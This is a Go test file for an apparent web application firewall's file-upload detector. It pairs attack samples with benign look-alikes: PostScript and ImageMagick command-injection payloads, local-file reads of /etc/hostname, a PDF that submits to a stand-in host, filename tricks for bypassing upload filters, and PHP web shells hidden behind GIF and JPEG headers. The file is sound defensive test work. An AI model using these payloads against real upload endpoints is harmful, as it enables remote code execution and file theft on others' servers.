package upload

import (
	"testing"

	"kongwaf/detect"
	"kongwaf/detect/attack/languagetest"
)

var language = languagetest.Language{Class: detect.ClassUpload, Possible: Possible, Judge: Judge, Rows: rows}

func TestLanguage(t *testing.T)   { language.Test(t) }
func FuzzJudge(f *testing.F)      { language.Fuzz(f) }
func BenchmarkJudge(b *testing.B) { language.Benchmark(b) }

var rows = []languagetest.Row{
	{Shows: "PostScript that starts a program", Attack: "%!PS\n(%pipe%uname) (w) file\n", Twin: "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(hello) show\n"},
	{Shows: "PostScript that reads a file", Attack: "%!PS\n(/etc/hostname) (r) file\n", Twin: "%!PS\n(a) (b) show\n"},
	{Shows: "drawing of ImageMagick with a reference", Attack: "push graphic-context\nviewbox 0 0 9 9\nfill 'url(https://x.example/a\"|ls \")'\npop graphic-context\n", Twin: "push graphic-context\nviewbox 0 0 9 9\nfill 'rgb(1,2,3)'\npop graphic-context\n"},
	{Shows: "script of ImageMagick", Attack: `<image><read filename="caption:x"/><write filename="/srv/www/q.php"/></image>`, Twin: `<image><url>https://x.example/a.png</url></image>`},
	{Shows: "drawing that includes a file", Attack: `<svg><image xlink:href="text:/etc/hostname"/></svg>`, Twin: `<svg><image xlink:href="data:image/png;base64,AA"/></svg>`},
	{Shows: "PDF that sends something", Attack: "%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(this.submitForm(\"http://x.example\"))>>>>\nendobj", Twin: "%PDF-1.4\n1 0 obj<</Type/Catalog/JS(app.alert(1))>>\nendobj"},
	{Shows: "PHP", Attack: "shell.php", Twin: "report.final.pdf", Name: "filename", IsName: true},
	{Shows: "any case", Attack: "shell.pHtMl", Twin: "photo.tar.gz", Name: "filename", IsName: true},
	{Shows: "JSP", Attack: "x.jsp", Twin: "x.js", Name: "filename", IsName: true, Suspicious: true},
	{Shows: "ASP.NET", Attack: "x.aspx", Twin: "asp.txt", Name: "filename", IsName: true},
	{Shows: "executable first", Attack: "x.php.jpg", Twin: "x.2024.jpg", Name: "filename", IsName: true},
	{Shows: "executable last", Attack: "x.jpg.php", Twin: "php.jpg", Name: "filename", IsName: true},
	{Shows: "NUL", Attack: "x.php\x00.png", Twin: "x.png", Name: "filename", IsName: true},
	{Shows: "trailing dot", Attack: "x.php.", Twin: "Dr. Who.", Name: "filename", IsName: true},
	{Shows: "trailing blank", Attack: "x.asp ", Twin: "notes ", Name: "filename", IsName: true},
	{Shows: "alternate stream", Attack: "x.aspx::$DATA", Twin: "12:30 photo.jpg", Name: "filename", IsName: true},
	{Shows: "semicolon (IIS)", Attack: "x.asp;.jpg", Twin: "a;b.jpg", Name: "filename", IsName: true},
	{Shows: "configuration", Attack: ".htaccess", Twin: "htaccess.txt", Name: "filename", IsName: true},
	{Shows: "path before it", Attack: "../../x.php", Twin: "C:\\photos\\x.jpg", Name: "filename", IsName: true},
	{Shows: "script that no server runs by name", Attack: "web.config", Twin: "script.sh", Name: "filename", IsName: true, Suspicious: true},
	{Shows: "code behind an image's first bytes", Attack: "GIF89a;<?php system($_GET['c']); ?>", Twin: "GIF89a\x01\x00<\x02\x03"},
	{Shows: "code in a photo", Attack: "\xff\xd8\xff\xe0JFIF<?=`$_GET[0]`?>", Twin: "\xff\xd8\xff\xe0JFIF<?xpacket begin"},
}
